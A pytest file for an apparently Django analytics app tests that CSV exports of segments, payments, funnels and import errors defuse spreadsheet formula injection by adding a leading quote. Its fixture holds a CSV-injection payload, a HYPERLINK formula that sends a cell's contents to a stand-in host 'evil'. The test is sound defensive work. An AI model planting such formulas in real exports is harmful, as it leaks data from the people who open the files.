"""CSV injection: text that reached us from a customer's data comes out of every export that shows it
as text a spreadsheet will not run (a leading quote), while our own numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from django_tenants.utils import schema_context

from intelligence.engines import segments
from intelligence.models import ImportJob, SegmentSnapshot
from intelligence.services import records_ingest
from suresh_ai.testing import TenantFixture, login_client

HOSTILE = '=HYPERLINK("http://evil/?x="&A1,"click")'
T = datetime(2026, 11, 10, 9, 0, tzinfo=UTC)
DAY = date(2026, 11, 12)


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode())))


def _ingest(kind: str, records: list[dict[str, object]]) -> None:
    result = records_ingest(kind=kind, records=records)
    assert result.errors == [], result.errors


@pytest.fixture
def hostile(alpha: TenantFixture) -> TenantFixture:
    """Two customers, one named like a formula, with paid orders (so both are in a segment on DAY);
    a payment whose bank is a formula; visitors whose events are named -A1 then -A2 (valid event
    names that a spreadsheet reads as formulas)."""
    with schema_context(alpha.tenant.schema_name):
        _ingest(
            "customers",
            [{"external_id": "c-evil", "name": HOSTILE}, {"external_id": "c-good", "name": "Asha"}],
        )
        _ingest(
            "orders",
            [
                {
                    "external_id": f"o-{customer}",
                    "customer_id": customer,
                    "status": "paid",
                    "total_paise": total,
                    "created_at": T.isoformat(),
                    "paid_at": T.isoformat(),
                }
                for customer, total in (("c-evil", 50_000), ("c-good", 10_000))
            ],
        )
        _ingest(
            "payments",
            [
                {
                    "razorpay_payment_id": "pay_evil",
                    "status": "captured",
                    "method": "netbanking",
                    "bank": HOSTILE,
                    "amount_paise": 50_000,
                    "created_at": T.isoformat(),
                }
            ],
        )
        _ingest(
            "events",
            [
                {
                    "event_id": f"ev-{visitor}-{n}",
                    "name": name,
                    "anonymous_id": visitor,
                    "occurred_at": (T + timedelta(minutes=n)).isoformat(),
                }
                for visitor in ("v1", "v2")
                for n, name in enumerate(("-A1", "-A2"))
            ],
        )
        segments.segments_snapshot(day=DAY)
    return alpha


def _evil_segment(fixture: TenantFixture) -> str:
    with schema_context(fixture.tenant.schema_name):
        return SegmentSnapshot.objects.get(day=DAY, customer__external_id="c-evil").segment


def test_segment_members_export_neutralises_a_customer_name(hostile: TenantFixture) -> None:
    segment = _evil_segment(hostile)
    api = hostile.key_client().get(f"/api/v1/analytics/segments/{segment}/customers.csv?day={DAY}")
    page = login_client(hostile, hostile.owner).get(f"/analytics/segments/{segment}/export.csv?day={DAY}")
    for response in (api, page):
        content = response.getvalue()  # streamed: read once
        [evil] = [row for row in _rows(content) if row[0] == "c-evil"]
        assert evil[2] == "'" + HOSTILE
        assert evil[5] == "500.00"
        assert b'"\'=HYPERLINK(""http://evil/?x=""&A1,""click"")",' in content


def test_payments_export_neutralises_a_bank_name(hostile: TenantFixture) -> None:
    page = login_client(hostile, hostile.owner)
    response = page.get("/analytics/payments/export.csv?start=2026-11-10&end=2026-11-10")
    assert response.status_code == 200
    rows = _rows(response.content)
    assert ["bank", "'" + HOSTILE, "1", "1", "0", "1.0"] in rows
    assert HOSTILE not in [cell for row in rows for cell in row]


def test_funnel_exports_neutralise_event_names(hostile: TenantFixture) -> None:
    query = "start=2026-11-10&end=2026-11-10&steps=-A1,-A2"
    api = hostile.key_client().get(f"/api/v1/analytics/funnel.csv?{query}")
    page = login_client(hostile, hostile.owner).get(f"/analytics/funnels/export.csv?{query}")
    for response in (api, page):
        rows = _rows(response.content)
        assert [row[2] for row in rows[1:3]] == ["'-A1", "'-A2"]
        assert rows[1][4] == "2"  # two visitors: a count, written as a number
        assert '"all",2,"\'-A2",' in response.content.decode()


def test_import_error_report_neutralises_what_the_file_held(alpha: TenantFixture) -> None:
    with schema_context(alpha.tenant.schema_name):
        job = ImportJob.objects.create(
            kind="customers",
            filename="c.csv",
            status=ImportJob.Status.DONE,
            errors=[{"row": 2, "field": "@name", "reason": HOSTILE}],
        )
    api = alpha.key_client().get(f"/api/v1/data/imports/{job.pk}/errors.csv")
    page = login_client(alpha, alpha.owner).get(f"/analytics/data/imports/{job.pk}/errors.csv")
    for response in (api, page):
        assert _rows(response.content) == [["row", "field", "reason"], ["2", "'@name", "'" + HOSTILE]]
        assert response.content.decode().splitlines()[1].startswith('2,"\'@name",')
